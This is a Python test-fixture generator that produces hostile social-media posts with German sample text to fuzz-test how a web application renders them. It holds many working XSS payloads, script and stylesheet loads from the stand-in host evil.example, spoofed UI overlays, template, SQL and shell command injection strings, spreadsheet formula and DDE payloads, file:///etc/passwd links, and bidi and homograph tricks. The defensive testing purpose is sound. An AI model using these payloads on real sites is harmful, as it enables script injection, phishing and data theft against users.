"""Posts that try to break the pages that show them: any number, always the same ones.

Each is put together from what attackers and mere accidents bring: script, style and markup, event
handlers, SVG,
characters that turn or hide text, towers of marks, enormous words, templates, false addresses, false parts
of our
own pages. `PWNED` is what a script that runs would set.
"""

import html
import random
from collections.abc import Iterator
from datetime import datetime, timedelta
from typing import Any

PWNED = "pwned"
_RUN = f"window.{PWNED}=1"
SCRIPT = (
    f"<script>{_RUN}</script>", f"<ScRiPt >{_RUN}</sCrIpT>", "<script src=//evil.example/x.js></script>",
    f"</script><script>{_RUN}//", f"<svg onload={_RUN}>", f"<svg><script>{_RUN}</script></svg>",
    f"<img src=x onerror={_RUN}>", f'"><img src=http://evil.example/p.gif onerror="{_RUN}">',
    f"' onmouseover='{_RUN}' autofocus onfocus='{_RUN}", f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x",
    f"<iframe srcdoc='<script>parent.{PWNED}=1</script>'></iframe>", "<iframe src=http://evil.example/></iframe>",
    f"<a href=javascript:{_RUN}>klick</a>", f"<math><mtext></p><img src onerror={_RUN}></mtext></math>",
    f"<form action=http://evil.example/><input autofocus onfocus={_RUN}><button>Anmelden</button></form>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<xss style=animation-name:x onanimationstart={_RUN}>",
    f"<template><script>{_RUN}</script></template>", "<base href=http://evil.example/>",
    "<object data=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
)  # fmt: skip
STYLE = (
    "<style>*{display:none!important}</style>", "</style><style>body{background:url(//evil.example/b)}",
    "<div style='position:fixed;inset:0;background:#fff;z-index:9999'>Ihre Sitzung ist abgelaufen</div>",
    "<p class='button primary' style='width:9999px'>Freigeben</p>", "};body{display:none}/*",
    "<marquee>Zeisig</marquee>", "<plaintext>", "<textarea>", "<title>neu</title>", "<!-- ", "]]>",
    "<![CDATA[",
)  # fmt: skip
OURS = (
    "</span></a></div></main>", "</article></section></body></html>", "<aside class='detail' id='detail'>",
    "<div id=messages><div class='message success'>Gesendet</div></div>", "<dialog open>Kennwort?</dialog>",
    "<a class='row found-post' data-row href=//evil.example/>Vorgang 1</a>",
    "<button data-act=close>Schließen</button>",
    "<div hx-get=/account/logout/ hx-trigger=load></div>",
    "<div data-refetch=/account/logout/ data-on=case id=x></div>",
    "Level: ROT – Krisenstab einberufen", "✓ Antwort freigegeben von Jette Carstens", "<kbd>Strg</kbd>",
)  # fmt: skip
TURNED = (
    "\u202enettor tug\u202c", "\u2067rtl\u2069", "\u202d\u202e\u202d\u202e" * 40, "\u2066" * 90,
    "\u200f\u200e" * 30,
    "\u061c\u202bx", "exe.\u202egnp.pdf", "شركة زايزيغ لا ترد", "זייזיג לא עונים", "\u2028\u2029Zeile",
)  # fmt: skip
UNSEEN = (
    "Z\u200be\u200ci\u200ds\u2060i\ufeffg", "\u00ad" * 200, "\u3164" * 50, "\u2800" * 50, "\U000e0041" * 40,
    "\x00", "\x1b[31mrot\x1b[0m", "\x07\x08\x7f", "\ufffe\uffff", "\ufff9a\ufffab\ufffb",
)  # fmt: skip
TOWERS = (
    "Z" + "\u0336\u0321\u0322\u0327\u0328" * 60 + "a",
    "ก็็็็็็็็็็็็็็็็็็็็" * 20,
    "\u0488" * 300,
    "a\u20dd\u20de\u20e3" * 50,
)
HUGE = ("ä" * 4000, "Donau" * 900, "🫖" * 800, "w " * 9000, "\n" * 3000, "\t" * 2000, "﷽" * 300, "𒐫" * 200)
EMOJI = ("👨‍👩‍👧‍👦🏳️‍🌈🫱🏽‍🫲🏿", "🇩🇪🇪🇺", "👍🏽" * 60, "❤️‍🔥", "\U0001f9d1\u200d" * 80)
TEMPLATES = (
    "{{ settings.SECRET_KEY }}", "{% include '/etc/passwd' %}", "{{7*7}}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "%(x)s %s",
    "{0.__class__}", "{{constructor.constructor('" + _RUN + "')()}}", "$(touch x)", "`id`",
    "'; DROP TABLE archive_post;--",
)  # fmt: skip
LINKS = (
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f"java\tscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f'http://evil.example/"onmouseover="{_RUN}', "http://evil.example/<script>", "https://xn--zesig-x9a.example/login",
    "https://zеisig.example/", "http://user:pass@evil.example/", "//evil.example/x", "http://[::1]/", "http://evil.example/\u202egpj",
    "vbscript:x", "file:///etc/passwd", "https://evil.example/" + "a" * 3000, "http://" + "a." * 900,
)  # fmt: skip
CELLS = (
    '=HYPERLINK("http://evil.example")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "=cmd|'/c calc'!A0",
    "＝1+1",
)
ENTITIES = (
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&amp;lt;b&amp;gt;",
    "&#x202e;",
    "&quot;&apos;",
    html.escape(SCRIPT[0]),
    "&nbsp;" * 200,
)
HOMOGRAPHS = ("Zеіѕіg", "ΖΕΙSΙG", "Z℮isig", "ᏃᎬᏆᏚᏆᏀ", "Ｚｅｉｓｉｇ", "𝒵𝑒𝒾𝓈𝒾𝑔")
SORTS = (
    SCRIPT,
    STYLE,
    OURS,
    TURNED,
    UNSEEN,
    TOWERS,
    HUGE,
    EMOJI,
    TEMPLATES,
    LINKS,
    CELLS,
    ENTITIES,
    HOMOGRAPHS,
)
PLAIN = (
    "Mein Zeisig Flott riecht verschmort.",
    "Wer ersetzt mir das?",
    "Danke, Zeisig!",
    "Frage zum Kocher",
    "Nie wieder",
)
A_THREAD = 100


def hostile_posts(many: int, now: datetime, seed: int = 7) -> Iterator[tuple[datetime, dict[str, Any]]]:
    """(when heard, record), the oldest first; every hundred of them are one conversation."""
    dice = random.Random(seed)  # noqa: S311 - a play that repeats
    for n in range(many):
        at = now - timedelta(seconds=many - n)
        thread = n - n % A_THREAD
        record = {
            "id": f"h-{n}", "channel": "mastodon", "text": _text(dice, n), "created_at": at.isoformat(),
            "received_at": at.isoformat(), "author": _author(dice, n),
        }  # fmt: skip
        if n != thread:
            record |= {"in_reply_to": f"h-{dice.choice((thread, n - 1))}", "root": f"h-{thread}"}
        if dice.random() < 0.3:
            record["title"] = _bit(dice)
        if dice.random() < 0.3:
            record["url"] = dice.choice(LINKS)
        if dice.random() < 0.2:
            record["media"] = [{"type": "image", "url": dice.choice(LINKS), "alt": _bit(dice)}]
        yield at, record


def _text(dice: random.Random, n: int) -> str:
    """Every sort has its turn, the first time alone; later ones come mixed with others and with plain
    words."""
    bits = [_of(dice, SORTS[n % len(SORTS)])]
    for _ in range(dice.randint(0, 3) if n > len(SORTS) else 0):
        bits.append(_bit(dice))
    bits.insert(dice.randint(0, len(bits)), dice.choice(PLAIN))
    return dice.choice((" ", "", "\n")).join(bits)


def _author(dice: random.Random, n: int) -> dict[str, Any]:
    return {"id": f"evil{n % 997}{_bit(dice)[:40]}", "handle": _bit(dice)[:200], "name": _bit(dice)[:400]}


def _bit(dice: random.Random) -> str:
    return _of(dice, dice.choice(SORTS))


def _of(dice: random.Random, sort: tuple[str, ...]) -> str:
    bit = dice.choice(sort)
    if dice.random() < 0.15:  # a piece of it, cut in the middle of whatever it is
        bit = bit[dice.randint(0, len(bit) // 2) :]
    return bit or "x"
